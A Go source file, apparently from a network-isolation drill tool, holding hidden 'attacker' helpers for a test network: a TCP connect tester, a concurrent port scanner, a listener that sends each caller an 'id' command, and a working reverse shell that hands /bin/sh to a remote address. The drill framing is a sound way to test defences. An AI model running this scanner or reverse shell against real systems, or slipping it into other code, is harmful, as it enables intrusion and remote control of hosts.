package drill

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"os/signal"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// The attacker's tools. They run as `omega drill helper …` inside a host of the testnet, and print JSON lines.

// Attempt is one TCP connect, as the process that made it saw it.
type Attempt struct {
	To    netip.AddrPort `json:"to"`
	Boot  uint64         `json:"boot"` // CLOCK_BOOTTIME just before connect(2), nanoseconds
	OK    bool           `json:"ok"`
	MS    float64        `json:"ms"` // until it was settled
	Error string         `json:"error,omitempty"`
}

// Scan is what a port scan found.
type Scan struct {
	Boot  uint64           `json:"boot"` // CLOCK_BOOTTIME just before the first connect(2), nanoseconds
	Ports int              `json:"ports"`
	Open  []netip.AddrPort `json:"open"`
	MS    float64          `json:"ms"`
}

// Caught is one connection that came to the attacker's listener.
type Caught struct {
	From netip.AddrPort `json:"from"`
	Said string         `json:"said"` // its answer to a harmless command
}

const (
	scanTimeout = 300 * time.Millisecond
	scanWidth   = 64 // connects under way at once
	maxScan     = 1 << 17
)

// bootTime is CLOCK_BOOTTIME in nanoseconds: the clock of receipts, shared by all hosts of a testnet.
func bootTime() uint64 {
	var ts unix.Timespec
	if err := unix.ClockGettime(unix.CLOCK_BOOTTIME, &ts); err != nil {
		return 0 // cannot fail: the clock exists since Linux 2.6.39
	}
	return uint64(ts.Nano())
}

func sinceMS(boot uint64) float64 { return float64(bootTime()-boot) / 1e6 }

// Helper is the life of the hidden `omega drill helper …`; its result is the exit code.
func Helper(args []string) int {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	if err := help(ctx, args, os.Stdin, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "omega drill helper:", err)
		return 1
	}
	return 0
}

var errHelper = errors.New("not for use by hand")

func help(ctx context.Context, args []string, in io.Reader, out io.Writer) error {
	if len(args) < 2 {
		return errHelper
	}
	from, err := netip.ParseAddr(args[1])
	if err != nil {
		return fmt.Errorf("%w: %v", errHelper, err)
	}
	print := json.NewEncoder(out).Encode
	switch rest := args[2:]; {
	case args[0] == "dial" && len(rest) >= 2: // FROM TIMEOUT ADDR…
		timeout, err := time.ParseDuration(rest[0])
		if err != nil {
			return err
		}
		targets, err := parseTargets(rest[1:])
		if err != nil {
			return err
		}
		return print(dialAll(ctx, from, timeout, targets))
	case args[0] == "scan" && len(rest) >= 2: // FROM PORTS ADDR…
		targets, err := parseScan(rest[0], rest[1:])
		if err != nil {
			return err
		}
		return print(scan(ctx, from, targets))
	case args[0] == "listen" && len(rest) == 1: // ADDR PORT
		port, err := strconv.ParseUint(rest[0], 10, 16)
		if err != nil {
			return err
		}
		return listen(ctx, netip.AddrPortFrom(from, uint16(port)), in, out)
	case args[0] == "shell" && len(rest) == 1: // FROM ADDR
		to, err := netip.ParseAddrPort(rest[0])
		if err != nil {
			return err
		}
		return shell(ctx, from, to)
	}
	return errHelper
}

func parseTargets(list []string) ([]netip.AddrPort, error) {
	out := make([]netip.AddrPort, len(list))
	for i, s := range list {
		var err error
		if out[i], err = netip.ParseAddrPort(s); err != nil {
			return nil, err
		}
	}
	return out, nil
}

// parseScan reads "22,80,443" or "1-1024" and addresses, and lists every port of every address.
func parseScan(ports string, addrs []string) ([]netip.AddrPort, error) {
	var out []netip.AddrPort
	for _, a := range addrs {
		addr, err := netip.ParseAddr(a)
		if err != nil {
			return nil, err
		}
		for part := range strings.SplitSeq(ports, ",") {
			first, last, isRange := strings.Cut(part, "-")
			if !isRange {
				last = first
			}
			lo, err1 := strconv.ParseUint(first, 10, 16)
			hi, err2 := strconv.ParseUint(last, 10, 16)
			if err := errors.Join(err1, err2); err != nil {
				return nil, err
			}
			for p := lo; p <= hi; p++ {
				if len(out) == maxScan {
					return nil, fmt.Errorf("more than %d ports", maxScan)
				}
				out = append(out, netip.AddrPortFrom(addr, uint16(p)))
			}
		}
	}
	return out, nil
}

func dial(ctx context.Context, from netip.Addr, timeout time.Duration, to netip.AddrPort) (net.Conn, Attempt) {
	d := net.Dialer{Timeout: timeout, LocalAddr: &net.TCPAddr{IP: from.AsSlice()}}
	d.SetMultipathTCP(false)
	a := Attempt{To: to, Boot: bootTime()}
	c, err := d.DialContext(ctx, "tcp", to.String())
	a.MS = sinceMS(a.Boot)
	a.OK = err == nil
	var sys syscall.Errno
	switch {
	case errors.As(err, &sys):
		a.Error = sys.Error()
	case err != nil:
		a.Error = "timed out"
	}
	return c, a
}

// dialAll connects to all at once, and leaves again after what a banner would take.
func dialAll(ctx context.Context, from netip.Addr, timeout time.Duration, targets []netip.AddrPort) []Attempt {
	out := make([]Attempt, len(targets))
	var wg sync.WaitGroup
	for i, to := range targets {
		wg.Go(func() {
			var c net.Conn
			if c, out[i] = dial(ctx, from, timeout, to); c != nil {
				c.Close()
			}
		})
	}
	wg.Wait()
	return out
}

func scan(ctx context.Context, from netip.Addr, targets []netip.AddrPort) Scan {
	s := Scan{Boot: bootTime(), Ports: len(targets), Open: []netip.AddrPort{}}
	var mu sync.Mutex
	var wg sync.WaitGroup
	next := make(chan netip.AddrPort)
	for range min(scanWidth, len(targets)) {
		wg.Go(func() {
			for to := range next {
				if c, a := dial(ctx, from, scanTimeout, to); a.OK {
					c.Close()
					mu.Lock()
					s.Open = append(s.Open, to)
					mu.Unlock()
				}
			}
		})
	}
	for _, to := range targets {
		if ctx.Err() != nil {
			break
		}
		next <- to
	}
	close(next)
	wg.Wait()
	slices.SortFunc(s.Open, netip.AddrPort.Compare)
	s.MS = sinceMS(s.Boot)
	return s
}

// listen prints "ready", then a line for each connection that comes, until its standard input closes. To each it says
// a harmless command and goodbye, as one who waits for a reverse shell would.
func listen(ctx context.Context, at netip.AddrPort, in io.Reader, out io.Writer) error {
	l, err := net.Listen("tcp", at.String())
	if err != nil {
		return err
	}
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	go func() {
		io.Copy(io.Discard, in)
		cancel()
	}()
	context.AfterFunc(ctx, func() { l.Close() })
	fmt.Fprintln(out, `"ready"`)
	var mu sync.Mutex
	var wg sync.WaitGroup
	defer wg.Wait()
	for {
		c, err := l.Accept()
		if err != nil {
			return nil
		}
		wg.Go(func() {
			defer c.Close()
			c.SetDeadline(time.Now().Add(2 * time.Second))
			fmt.Fprint(c, "echo shell-of $(id -un)\nexit\n")
			answer, _ := bufio.NewReader(io.LimitReader(c, 512)).ReadString('\n')
			from := c.RemoteAddr().(*net.TCPAddr).AddrPort()
			mu.Lock()
			defer mu.Unlock()
			json.NewEncoder(out).Encode(Caught{From: netip.AddrPortFrom(from.Addr().Unmap(), from.Port()), Said: strings.TrimSpace(answer)})
		})
	}
}

// shell is a reverse shell for hosts without bash: it connects, then gives a shell's standard streams to the far end.
func shell(ctx context.Context, from netip.Addr, to netip.AddrPort) error {
	c, a := dial(ctx, from, 2*time.Second, to)
	if !a.OK {
		return fmt.Errorf("connect %s: %s", to, a.Error)
	}
	f, err := c.(*net.TCPConn).File()
	c.Close()
	if err != nil {
		return err
	}
	defer f.Close()
	sh := exec.CommandContext(ctx, "/bin/sh")
	sh.Stdin, sh.Stdout, sh.Stderr = f, f, f
	return sh.Run()
}
